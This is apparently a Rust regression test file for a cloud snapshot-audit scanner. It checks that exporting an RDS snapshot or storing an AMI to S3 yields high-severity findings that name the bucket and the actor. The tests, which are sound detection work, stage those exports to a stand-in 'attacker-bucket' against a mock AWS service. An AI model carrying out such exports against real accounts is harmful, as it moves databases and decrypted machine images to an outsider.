//! Data that leaves without a share (issue 27, part 1): an RDS snapshot
//! exported to Amazon S3. moto serves `StartExportTask` and
//! `DescribeExportTasks`; the proxy records the export in its CloudTrail.

use crate::common;

use common::proxy::Proxy;
use common::{ACCOUNT, Moto, Run, TempDir, create_db_instance, rds, runtime, snapaudit};
use serde_json::Value;

async fn export(client: &aws_sdk_rds::Client, task: &str, snapshot: &str, bucket: &str) {
    client
        .start_export_task()
        .export_task_identifier(task)
        .source_arn(format!("arn:aws:rds:us-east-1:{ACCOUNT}:snapshot:{snapshot}"))
        .s3_bucket_name(bucket)
        .s3_prefix("dump")
        .iam_role_arn(format!("arn:aws:iam::{ACCOUNT}:role/export"))
        .kms_key_id(format!("arn:aws:kms:us-east-1:{ACCOUNT}:key/1234"))
        .send()
        .await
        .expect("StartExportTask");
}

fn exported(run: &Run) -> Vec<Value> {
    run.records("finding").into_iter().filter(|f| f["rule"] == "snapshot-exported").collect()
}

/// Regression (issue 27, part 1): an RDS snapshot exported to a bucket
/// outside the policy's `trusted_export_buckets` went unseen (no share
/// changes). It is a high `snapshot-exported` naming the bucket and, from
/// CloudTrail, who exported; the first scan reports exports already made; an
/// export to a trusted bucket is info.
#[test]
fn an_rds_snapshot_exported_to_an_untrusted_bucket_is_high_and_names_who() {
    let (moto, dir, rt) = (Moto::start(), TempDir::new(), runtime());
    let proxy = Proxy::start(&moto.url);
    let client = rds(&proxy.url, "us-east-1");
    rt.block_on(async {
        create_db_instance(&client, "orders").await;
        for name in ["orders-manual", "orders-old"] {
            let snapshot = client.create_db_snapshot().db_instance_identifier("orders").db_snapshot_identifier(name);
            snapshot.send().await.expect("CreateDBSnapshot");
        }
        export(&client, "before-first-scan", "orders-old", "backup-bucket").await;
    });
    std::fs::write(dir.path().join("policy.yaml"), "version: 1\ntrusted_export_buckets: [backup-bucket]\n").unwrap();
    let scan = || {
        let args = ["scan", "--format", "jsonl", "--region", "us-east-1", "--policy", "policy.yaml"];
        snapaudit(dir.path(), Some(&proxy.url), &args)
    };
    let first = scan();
    assert_eq!(first.code, 0, "the export to a trusted bucket is info: {first:?}");
    let found = exported(&first);
    assert_eq!(found.len(), 1, "{first:?}");
    assert_eq!((found[0]["severity"].as_str(), found[0]["snapshot_id"].as_str()), (Some("info"), Some("orders-old")));

    rt.block_on(export(&client, "loot", "orders-manual", "attacker-bucket"));
    common::next_second();
    let second = scan();
    assert_eq!(second.code, 1, "{second:?}");
    let loot = exported(&second).into_iter().find(|f| f["snapshot_id"] == "orders-manual").expect("exported");
    assert_eq!(loot["severity"], "high", "{loot}");
    assert_eq!(loot["status"], "new", "{loot}");
    assert_eq!(loot["grantees"], serde_json::json!(["s3://attacker-bucket/dump"]));
    assert_eq!(loot["actor"]["event_name"], "StartExportTask", "{loot}");
    assert_eq!(loot["actor"]["principal"], format!("arn:aws:iam::{ACCOUNT}:user/AKIDTESTING"));
    let change = second.records("change").into_iter().find(|c| c["snapshot_id"] == "orders-manual").expect("change");
    assert_eq!(change["kind"], "modified", "{change}");
    assert!(change["details"].as_str().unwrap().contains("s3://attacker-bucket/dump"), "{change}");

    // A task that runs on is no new change; the finding stays open.
    let third = scan();
    assert!(third.changes().is_empty(), "{third:?}");
    let open = exported(&third).into_iter().find(|f| f["snapshot_id"] == "orders-manual").expect("still listed");
    assert_eq!(open["status"], "open");
}

/// Regression (issue 27, part 1): an AMI stored to S3
/// (`CreateStoreImageTask`: the image and its snapshots, decrypted, as one
/// object) left no trace on its launch permission. It is a
/// `snapshot-exported` finding on the AMI naming the object and who stored
/// it. moto lacks the store tasks: the proxy answers them.
#[test]
fn an_ami_stored_to_s3_is_snapshot_exported_and_names_who() {
    let (moto, dir, rt) = (Moto::start(), TempDir::new(), runtime());
    let proxy = Proxy::start(&moto.url);
    let client = common::ec2(&proxy.url, "us-east-1");
    let image = rt.block_on(async {
        client.register_image().name("golden").send().await.expect("RegisterImage").image_id.unwrap()
    });
    let scan = || snapaudit(dir.path(), Some(&proxy.url), &["scan", "--format", "jsonl", "--region", "us-east-1"]);
    assert_eq!(scan().code, 0);
    rt.block_on(async {
        let store = client.create_store_image_task().image_id(&image).bucket("attacker-bucket");
        store.send().await.expect("CreateStoreImageTask");
    });
    common::next_second();
    let run = scan();
    assert_eq!(run.code, 1, "{run:?}");
    let stored = exported(&run).into_iter().find(|f| f["snapshot_id"] == image.as_str()).expect("stored");
    assert_eq!(stored["service"], "ami");
    assert_eq!(stored["severity"], "high");
    assert_eq!(stored["grantees"], serde_json::json!([format!("s3://attacker-bucket/{image}.bin")]));
    assert!(stored["message"].as_str().unwrap().contains("was stored to s3://attacker-bucket/"), "{stored}");
    assert_eq!(stored["actor"]["event_name"], "CreateStoreImageTask", "{stored}");
}
